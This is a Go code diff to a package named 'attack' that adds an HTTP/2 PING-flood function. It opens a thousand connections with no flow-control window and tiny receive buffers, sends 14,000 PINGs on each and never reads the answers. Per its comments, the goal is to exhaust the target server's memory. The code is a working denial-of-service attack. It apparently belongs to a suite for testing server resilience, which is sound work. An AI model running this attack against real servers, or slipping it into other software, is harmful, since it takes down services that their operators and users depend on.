@@ -1,8 +1,11 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	"fmt"
+
+	"golang.org/x/net/http2"
 )
 
 // smallBuffer is the receive buffer of attackers that do not read; the kernel doubles it.
@@ -66,4 +69,23 @@ func slowReaders(ctx context.Context, c *crew, ready func()) error {
 		return &request{method: "GET", target: fmt.Sprintf("%s?%s=%d", key, parameter, n+1), authorization: c.authorization()}
 	}
 	return c.holdAnswers(ctx, connections, requests, read, ready)
+}
+
+// pingConnections is how many connections send PINGs, and pingsOfEach how many each sends: the
+// kernel holds some thousand of the answers, and Go's server up to 10,000 more.
+const (
+	pingConnections = 1000
+	pingsOfEach     = 14_000
+)
+
+// pings sends many PINGs on each connection and takes no answer.
+func pings(ctx context.Context, c *crew, ready func()) error {
+	var all bytes.Buffer
+	all.Write(preface(noWindow))
+	all.Write(newEncoder().request(1, &request{method: "GET", target: smallKey}))
+	f := http2.NewFramer(&all, nil)
+	for range pingsOfEach {
+		_ = f.WritePing(false, [8]byte{}) // to memory
+	}
+	return c.hold(ctx, &holding{connections: pingConnections, receive: smallBuffer, first: func(int) []byte { return all.Bytes() }}, ready)
 }
